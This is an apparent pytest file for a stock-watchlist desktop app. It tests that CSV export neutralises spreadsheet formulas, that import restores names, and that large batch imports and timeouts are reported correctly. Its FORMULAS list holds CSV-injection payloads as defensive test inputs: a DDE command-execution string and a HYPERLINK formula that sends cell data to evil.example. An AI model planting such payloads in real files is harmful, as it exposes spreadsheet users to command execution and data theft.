"""Watchlist CSV files we write must read back, and never run as formulas (issue 24): cells that a spreadsheet
would evaluate are prefixed with ' (OWASP's CSV-injection advice) and import strips it again; an import of
thousands of lists is one batch, and its report says what happened."""

from __future__ import annotations

import csv
import json

import pytest

from desktop.core.market import Watchlist
from desktop.services import watchlists
from desktop.services.watchlists import export_csv, read_csv
from desktop.store import market_store as ms

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1)", "+1+2", "-2+3",
            "\t=1+1", "\r=1+1", "=1+1\n"]


def run(argv, capsys):
    from desktop.__main__ import main

    rc = main(argv)
    out, err = capsys.readouterr()
    return rc, out, err


def cells(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("hostile", FORMULAS)
def test_export_prefixes_every_cell_a_spreadsheet_would_evaluate(tmp_path, hostile):
    out = tmp_path / "lists.csv"
    export_csv([Watchlist(1, hostile, ("300750",))], {"300750": hostile}, out)
    header, row = cells(out)
    assert header == ["code", "name", "list"]
    assert row == ["300750", "'" + hostile, "'" + hostile]
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in row)


@pytest.mark.parametrize("name", [*FORMULAS, "'=already quoted", "''=twice", "'90s", "plain", "宁德时代", ""])
def test_import_strips_the_prefix_again_so_names_round_trip(tmp_path, name):
    out = tmp_path / "lists.csv"
    export_csv([Watchlist(1, name or "自选", ("300750",))], {"300750": name}, out)
    rows = read_csv(out)
    assert rows == [("300750", name.strip(), (name or "自选").strip())]


def test_a_prefixed_file_from_elsewhere_imports_the_names_without_the_quote(tmp_path):
    f = tmp_path / "in.csv"
    f.write_text("code,name,list\n300750,宁德时代,'=1+2\n600519,贵州茅台,'@list\n000001,平安银行,'plain\n",
                 encoding="utf-8")
    assert read_csv(f) == [("300750", "宁德时代", "=1+2"), ("600519", "贵州茅台", "@list"),
                           ("000001", "平安银行", "'plain")]


def test_cli_round_trip_of_a_formula_list_name(tmp_path, capsys):
    data = ["--data-dir", str(tmp_path / "d")]
    assert run([*data, "watchlist", "add", "300750", "--list", "=HYPERLINK(\"x\")"], capsys)[0] == 0
    out = tmp_path / "lists.csv"
    assert run([*data, "watchlist", "export", str(out)], capsys)[0] == 0
    assert "'=HYPERLINK" in out.read_text(encoding="utf-8-sig")
    other = ["--data-dir", str(tmp_path / "e")]
    rc, stdout, _ = run([*other, "watchlist", "import", str(out)], capsys)
    assert rc == 0
    names = [w["name"] for w in json.loads(run([*other, "watchlist", "list", "--json"], capsys)[1])]
    assert '=HYPERLINK("x")' in names and "'=HYPERLINK(\"x\")" not in names


def test_a_name_with_nul_exports_and_imports(tmp_path):
    out = tmp_path / "lists.csv"
    export_csv([Watchlist(1, "电\x00池", ("300750",))], {"300750": "宁德\x00时代"}, out)
    assert read_csv(out) == [("300750", "宁德时代", "电池")]


def test_an_export_that_would_not_read_back_leaves_the_old_file(tmp_path, monkeypatch):
    from desktop.core.errors import HuohuaError

    out = tmp_path / "lists.csv"
    out.write_bytes(b"the previous export")
    monkeypatch.setattr(watchlists, "parse_csv", lambda data, path: [], raising=False)
    with pytest.raises(HuohuaError, match="does not read back"):
        export_csv([Watchlist(1, "电池", ("300750",))], {"300750": "宁德时代"}, out)
    assert out.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["lists.csv"]          # no temporary file left


# -- many lists --------------------------------------------------------------------------------------------------
N_LISTS = 5000


def test_five_thousand_list_names_are_one_batch_and_the_report_says_so(tmp_path, capsys, monkeypatch):
    f = tmp_path / "many.csv"
    f.write_text("code,name,list\n" + "".join(f"300750,,组合{i:04d}\n" for i in range(N_LISTS)), encoding="utf-8")
    scans = []
    real = ms.watchlists

    def counted(conn):
        scans.append(1)
        if len(scans) > 10:
            raise AssertionError("every row rescans every list")
        return real(conn)

    monkeypatch.setattr(ms, "watchlists", counted)
    data = ["--data-dir", str(tmp_path / "d")]
    rc, out, err = run([*data, "watchlist", "import", str(f)], capsys)
    assert rc == 0, err
    assert len(scans) <= 3
    assert out.startswith(f"imported {N_LISTS} stocks into 组合0000, 组合0001,")
    assert "组合0009 … and 4990 more (5000 new lists) from" in out and len(out) < 400
    monkeypatch.setattr(ms, "watchlists", real)
    lists = json.loads(run([*data, "watchlist", "list", "--json"], capsys)[1])
    assert sum(w["name"].startswith("组合") for w in lists) == N_LISTS
    rc, out, _ = run([*data, "watchlist", "import", str(f)], capsys)        # the same file again: nothing new
    assert rc == 0 and out.startswith("imported 0 stocks into 组合0000,")
    assert f"({N_LISTS} already on their lists) from" in out and "new lists" not in out


def test_a_write_that_times_out_is_not_reported_as_an_unreadable_file(tmp_path, capsys, monkeypatch):
    f = tmp_path / "lists.csv"
    f.write_text("code,name,list\n300750,,电池\n", encoding="utf-8")

    def slow(writer, op, timeout):
        raise TimeoutError()

    monkeypatch.setattr(watchlists, "_write", slow, raising=False)
    rc, _, err = run(["--data-dir", str(tmp_path / "d"), "watchlist", "import", str(f)], capsys)
    assert rc == 1
    assert "cannot read" not in err and "not finished" in err and "huohua watchlist list" in err
